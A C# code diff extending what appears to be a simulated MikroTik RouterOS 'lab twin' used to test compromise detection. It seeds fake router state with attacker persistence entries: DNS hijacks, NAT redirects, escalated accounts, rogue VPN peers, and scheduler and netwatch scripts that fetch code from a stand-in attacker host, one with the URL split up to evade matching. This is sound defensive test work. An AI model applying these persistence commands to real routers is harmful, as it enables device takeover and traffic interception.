@@ -53,7 +53,7 @@ public sealed class RouterOsTwin : ILabTwin
     public int Port { get; private set; }
 
     public IReadOnlyList<string> SupportedChanges { get; } =
-        [.. TwinChanges.Compromises, TwinChanges.Reboot, TwinChanges.Counters, TwinChanges.Time, TwinChanges.DhcpLeases, TwinChanges.Reorder, TwinChanges.WhitespaceCase];
+        [.. TwinChanges.RouterCompromises, .. TwinChanges.RouterOsCompromises, TwinChanges.Reboot, TwinChanges.Counters, TwinChanges.Time, TwinChanges.DhcpLeases, TwinChanges.Reorder, TwinChanges.WhitespaceCase];
 
     /// <summary>How the next REST answers misbehave; <see cref="RouterOsHostility.None"/> for a well-behaved router.</summary>
     public RouterOsHostility Hostility { get; set; }
@@ -139,6 +139,90 @@ public sealed class RouterOsTwin : ILabTwin
                     // Same version string, a build MikroTik never published.
                     s.BuildTime = "2026-02-29 23:59:59";
                     break;
+                case TwinChanges.DnsStatic:
+                    s.DnsStatic.Add(new Row(NextSerial(s.DnsStatic), ("name", "www.bank.example"), ("address", RouterOsTwinState.AttackerHost), ("type", "A"), ("ttl", "1d"), ("disabled", "false"), ("dynamic", "false")));
+                    break;
+                case TwinChanges.FirewallOpened:
+                    // Ahead of the defconf drop: Winbox and the API from anywhere.
+                    s.Filter.Insert(0, RouterOsTwinState.FilterRow(NextSerial(s.Filter), ("chain", "input"), ("action", "accept"), ("protocol", "tcp"), ("dst-port", "8291,8728"), ("comment", "")));
+                    Renumber(s);
+                    break;
+                case TwinChanges.NatRedirect:
+                    // Meris-style: every DNS query from the LAN answered by the attacker's resolver.
+                    s.Nat.Add(new Row(NextSerial(s.Nat), ("chain", "dstnat"), ("action", "redirect"), ("protocol", "udp"), ("dst-port", "53"), ("to-ports", "53"), ("in-interface", "bridge"),
+                        ("disabled", "false"), ("dynamic", "false"), ("invalid", "false"), ("log", "false"), ("log-prefix", ""), ("comment", "")));
+                    s.Nat.Add(new Row(NextSerial(s.Nat), ("chain", "srcnat"), ("action", "src-nat"), ("to-addresses", RouterOsTwinState.AttackerHost), ("protocol", "tcp"), ("dst-port", "25"),
+                        ("disabled", "false"), ("dynamic", "false"), ("invalid", "false"), ("log", "false"), ("log-prefix", ""), ("comment", "")));
+                    break;
+                case TwinChanges.AdminPromoted:
+                    s.Users.Single(u => u["name"] == "viewer")["group"] = "full";
+                    break;
+                case TwinChanges.GroupEscalated:
+                    // A new group with every policy, and a read-only account moved into it.
+                    s.Groups.Add(new Row(NextSerial(s.Groups), ("name", "mgmt"), ("policy", "local,telnet,ssh,ftp,reboot,read,write,policy,test,winbox,password,web,sniff,sensitive,api,romon,rest-api"),
+                        ("skin", "default"), ("comment", "")));
+                    s.Users.Single(u => u["name"] == "viewer")["group"] = "mgmt";
+                    break;
+                case TwinChanges.FileDropped:
+                    s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/routeros-arm64-7.20.8.npk", "package", null));
+                    s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/dns.auto.rsc", "script", "/ip dns set servers=" + RouterOsTwinState.AttackerHost + "\n"));
+                    break;
+                case TwinChanges.NetwatchFetch:
+                    s.Netwatch.Add(new Row(NextSerial(s.Netwatch), ("host", "198.51.100.1"), ("type", "simple"), ("interval", "10m"), ("timeout", "1s"),
+                        ("up-script", $"/tool fetch url=\"https://{RouterOsTwinState.AttackerHost}/s\" output=none"), ("down-script", ""), ("test-script", ""),
+                        ("disabled", "false"), ("status", "up"), ("since", ""), ("comment", "")));
+                    break;
+                case TwinChanges.FetchObfuscated:
+                    // The URL in pieces, kept in a variable: no "http://" and no host appear in one piece.
+                    s.Schedulers.Add(new Row(NextSerial(s.Schedulers), ("name", "ntp-sync"), ("start-date", "2026-01-01"), ("start-time", "startup"), ("interval", "01:00:00"),
+                        ("on-event", ":local u (\"ht\" . \"tp:/\" . \"/evil\" . \".example/a\"); :local c (\"/tool/fe\".\"tch\"); [:parse \"$c url=$u dst-path=a.rsc\"]"),
+                        ("owner", s.AdminUser), ("policy", "ftp,read,write,policy,test"), ("disabled", "false"), ("comment", "")));
+                    break;
+                case TwinChanges.FetchImported:
+                    // The scheduler only imports a file; the file does the download.
+                    s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/upd.rsc", "script", $"/tool fetch url=\"http://{RouterOsTwinState.AttackerHost}/stage2.rsc\"\n/import stage2.rsc\n"));
+                    s.Schedulers.Add(new Row(NextSerial(s.Schedulers), ("name", "upd"), ("start-date", "2026-01-01"), ("start-time", "startup"), ("interval", "00:30:00"),
+                        ("on-event", "/import file-name=flash/upd.rsc"), ("owner", s.AdminUser), ("policy", "ftp,read,write,policy,test"), ("disabled", "false"), ("comment", "")));
+                    break;
+                case TwinChanges.RemoteLog:
+                    var siem = s.LoggingActions.Single(a => a["name"] == "siem");
+                    siem["remote"] = RouterOsTwinState.AttackerHost;
+                    siem["remote-port"] = "5514";
+                    break;
+                case TwinChanges.VpnAccount:
+                    s.PptpServer["enabled"] = "true";
+                    s.PppSecrets.Add(new Row(NextSerial(s.PppSecrets), ("name", "vpnuser"), ("service", "any"), ("profile", "default"), ("remote-address", ""), ("password", "lab-x"),
+                        ("caller-id", ""), ("routes", ""), ("disabled", "false"), ("last-logged-out", "")));
+                    break;
+                case TwinChanges.WireGuardPeer:
+                    s.WireGuardPeers.Add(new Row(NextSerial(s.WireGuardPeers), ("interface", "wg-home"), ("public-key", Convert.ToBase64String(RouterOsTwinState.LabBytes("wg", 9, 32))),
+                        ("allowed-address", "0.0.0.0/0"), ("endpoint-address", RouterOsTwinState.AttackerHost), ("endpoint-port", "51820"), ("preshared-key", ""), ("persistent-keepalive", "25s"),
+                        ("disabled", "false"), ("dynamic", "false"), ("rx", "0"), ("tx", "0"), ("last-handshake", ""), ("current-endpoint-address", ""), ("current-endpoint-port", "0")));
+                    break;
+                case TwinChanges.DdnsOn:
+                    s.Cloud["ddns-enabled"] = "yes";
+                    break;
+                case TwinChanges.UpnpOn:
+                    s.Upnp["enabled"] = "true";
+                    break;
+                case TwinChanges.SnmpWrite:
+                    s.SnmpCommunities.Add(new Row(NextSerial(s.SnmpCommunities), ("name", "m1cr0s0ft"), ("addresses", "::/0"), ("read-access", "true"), ("write-access", "true"), ("security", "none"),
+                        ("authentication-password", ""), ("encryption-password", ""), ("disabled", "false"), ("default", "false")));
+                    break;
+                case TwinChanges.SnifferStream:
+                    s.Sniffer["streaming-enabled"] = "true";
+                    s.Sniffer["streaming-server"] = RouterOsTwinState.AttackerHost + ":37008";
+                    s.Sniffer["running"] = "true";
+                    break;
+                case TwinChanges.DeviceFlagged:
+                    s.DeviceMode["flagged"] = "true";
+                    break;
+                case TwinChanges.InstallDamaged:
+                    s.InstallationStatus = "installation is damaged";
+                    break;
+                case TwinChanges.PackageMismatch:
+                    s.Packages.Add(new Row(NextSerial(s.Packages), ("name", "extra-nic"), ("version", "6.49.1"), ("build-time", "2021-01-01 00:00:00"), ("scheduled", ""), ("disabled", "false"), ("available", "false"), ("size", "40960")));
+                    break;
                 case TwinChanges.Reboot:
                     s.Boot = s.Now - TimeSpan.FromSeconds(47) - s.ClockOffset;
                     s.CounterBase = 3;
@@ -196,7 +280,9 @@ public sealed class RouterOsTwin : ILabTwin
 
     private static int NextSerial(List<Row> rows) => rows.Count == 0 ? 1 : rows.Max(r => r.Serial) + 1;
 
-    private static IEnumerable<List<Row>> Lists(RouterOsTwinState s) => [s.Packages, s.Users, s.SshKeys, s.Services, s.Nat, s.Scripts, s.Schedulers, s.Leases];
+    private static IEnumerable<List<Row>> Lists(RouterOsTwinState s) =>
+        [s.Packages, s.Users, s.SshKeys, s.Services, s.Nat, s.Scripts, s.Schedulers, s.Leases, s.Groups, s.DnsStatic, s.Filter, s.Files, s.Netwatch, s.LoggingActions,
+         s.PppSecrets, s.WireGuardPeers, s.SnmpCommunities, s.OvpnServers];
 
     /// <summary>RouterOS hands out new internal ids after a reboot or a move: same items, other ".id" values.</summary>
     private static void Renumber(RouterOsTwinState s)
@@ -237,12 +323,17 @@ public sealed class RouterOsTwin : ILabTwin
             await WriteError(context, 401, "Unauthorized", null);
             return;
         }
+        var menu = path.Length > 5 ? path[5..].TrimEnd('/') : "";
+        if (HttpMethods.IsPost(context.Request.Method) && menu == "/system/check-installation")
+        {
+            await CheckInstallation(context);
+            return;
+        }
         if (!HttpMethods.IsGet(context.Request.Method))
         {
             await WriteError(context, 400, "Bad Request", "the lab twin is read-only");
             return;
         }
-        var menu = path.Length > 5 ? path[5..].TrimEnd('/') : "";
         if (hostility != RouterOsHostility.None && (hostileMenu is null || hostileMenu == menu))
         {
             await Hostile(context, hostility, menu);
@@ -267,6 +358,47 @@ public sealed class RouterOsTwin : ILabTwin
     }
 
     private sealed class NotFound;
+
+    /// <summary>
+    /// POST /rest/system/check-installation: a console command run through REST. Its body must be a JSON object of
+    /// the command's arguments (the probe sends {"once":""}); the answer is a list with one result object, as monitor
+    /// commands give. The status wording is the twin's (no published source shows RouterOS's).
+    /// </summary>
+    private async Task CheckInstallation(HttpContext context)
+    {
+        if (!MediaTypeIsJson(context.Request.ContentType))
+        {
+            await WriteError(context, 400, "Bad Request", "expected JSON body");
+            return;
+        }
+        using var reader = new StreamReader(context.Request.Body, Encoding.UTF8);
+        var text = await reader.ReadToEndAsync(context.RequestAborted);
+        JsonDocument document;
+        try
+        {
+            document = JsonDocument.Parse(text);
+        }
+        catch (JsonException)
+        {
+            await WriteError(context, 400, "Bad Request", "JSON parse error");
+            return;
+        }
+        using (document)
+        {
+            if (document.RootElement.ValueKind != JsonValueKind.Object ||
+                document.RootElement.EnumerateObject().Any(p => p.Name is not ("once" or "duration" or "interval" or ".proplist")))
+            {
+                await WriteError(context, 400, "Bad Request", "unknown parameter");
+                return;
+            }
+        }
+        string status;
+        lock (_gate) status = State.InstallationStatus;
+        await WriteJson(context, 200, Serialize(new List<SortedDictionary<string, string>> { Fields(("status", status)) }), "application/json");
+    }
+
+    private static bool MediaTypeIsJson(string? contentType) =>
+        contentType is not null && contentType.Split(';')[0].Trim().Equals("application/json", StringComparison.OrdinalIgnoreCase);
 
     private bool Authorized(string header)
     {
@@ -327,7 +459,12 @@ public sealed class RouterOsTwin : ILabTwin
         List<SortedDictionary<string, string>>? rows = null;
         SortedDictionary<string, string>? settings = null;
         string? itemId = null;
-        foreach (var list in new[] { "system/package", "user/ssh-keys", "user", "ip/service", "ip/firewall/nat", "system/script", "system/scheduler", "ip/dhcp-server/lease", "ip/dhcp-client" })
+        foreach (var list in new[]
+        {
+            "system/package", "user/ssh-keys", "user/group", "user", "ip/service", "ip/firewall/nat", "ip/firewall/filter", "ip/dns/static", "system/script", "system/scheduler",
+            "ip/dhcp-server/lease", "ip/dhcp-client", "file", "tool/netwatch", "system/logging/action", "ppp/secret", "interface/wireguard/peers", "snmp/community",
+            "interface/ovpn-server/server",
+        })
         {
             if (menu.StartsWith(list + "/*", StringComparison.Ordinal))
             {
@@ -359,7 +496,12 @@ public sealed class RouterOsTwin : ILabTwin
                 settings = Fields(("name", "lab-rb5009"));
                 break;
             case "system/package":
-                rows = Rows(s, s.Packages, r => { r["version"] = s.ShortVersion; r["build-time"] = s.BuildTime; });
+                rows = Rows(s, s.Packages, r =>
+                {
+                    if (r["version"].Length > 0) return;
+                    r["version"] = s.ShortVersion;
+                    r["build-time"] = s.BuildTime;
+                });
                 break;
             case "user":
                 rows = Rows(s, s.Users, r => r["last-logged-in"] = r["disabled"] == "true" ? "" : RouterOsTwinState.Stamp(now - TimeSpan.FromMinutes(3)));
@@ -399,6 +541,73 @@ public sealed class RouterOsTwin : ILabTwin
                 break;
             case "ip/proxy":
                 settings = new SortedDictionary<string, string>(s.Proxy, StringComparer.Ordinal);
+                break;
+            case "user/group":
+                rows = Rows(s, s.Groups, null);
+                break;
+            case "ip/dns/static":
+                rows = Rows(s, s.DnsStatic, null);
+                break;
+            case "ip/firewall/filter":
+                rows = Rows(s, s.Filter, r =>
+                {
+                    r["bytes"] = (counter * 977 * r.Count).ToString(CultureInfo.InvariantCulture);
+                    r["packets"] = (counter * 7 * r.Count).ToString(CultureInfo.InvariantCulture);
+                });
+                break;
+            case "file":
+                rows = Rows(s, s.Files, null);
+                break;
+            case "tool/netwatch":
+                rows = Rows(s, s.Netwatch, r =>
+                {
+                    r["since"] = RouterOsTwinState.Stamp(now - TimeSpan.FromSeconds(counter % 5000));
+                    r["done-tests"] = counter.ToString(CultureInfo.InvariantCulture);
+                });
+                break;
+            case "system/logging/action":
+                rows = Rows(s, s.LoggingActions, null);
+                break;
+            case "ppp/secret":
+                rows = Rows(s, s.PppSecrets, r => r["last-logged-out"] = RouterOsTwinState.Stamp(now - TimeSpan.FromHours(30)));
+                break;
+            case "interface/wireguard/peers":
+                rows = Rows(s, s.WireGuardPeers, r =>
+                {
+                    r["rx"] = (counter * 1500).ToString(CultureInfo.InvariantCulture);
+                    r["last-handshake"] = RouterOsTwinState.Duration(TimeSpan.FromSeconds(counter % 120));
+                });
+                break;
+            case "snmp/community":
+                rows = Rows(s, s.SnmpCommunities, null);
+                break;
+            case "interface/ovpn-server/server":
+                rows = Rows(s, s.OvpnServers, null);
+                break;
+            case "ip/cloud":
+                settings = new SortedDictionary<string, string>(s.Cloud, StringComparer.Ordinal) { ["public-address"] = "198.51.100." + (77 + counter % 3).ToString(CultureInfo.InvariantCulture) };
+                break;
+            case "ip/upnp":
+                settings = new SortedDictionary<string, string>(s.Upnp, StringComparer.Ordinal);
+                break;
+            case "snmp":
+                settings = new SortedDictionary<string, string>(s.Snmp, StringComparer.Ordinal);
+                break;
+            case "tool/sniffer":
+                settings = new SortedDictionary<string, string>(s.Sniffer, StringComparer.Ordinal);
+                break;
+            case "system/device-mode":
+                if (s.NoDeviceMode) return null;
+                settings = new SortedDictionary<string, string>(s.DeviceMode, StringComparer.Ordinal);
+                break;
+            case "interface/pptp-server/server":
+                settings = new SortedDictionary<string, string>(s.PptpServer, StringComparer.Ordinal);
+                break;
+            case "interface/l2tp-server/server":
+                settings = new SortedDictionary<string, string>(s.L2tpServer, StringComparer.Ordinal);
+                break;
+            case "interface/sstp-server/server":
+                settings = new SortedDictionary<string, string>(s.SstpServer, StringComparer.Ordinal);
                 break;
             case "ip/dhcp-server/lease":
                 rows = Rows(s, s.Leases, r =>
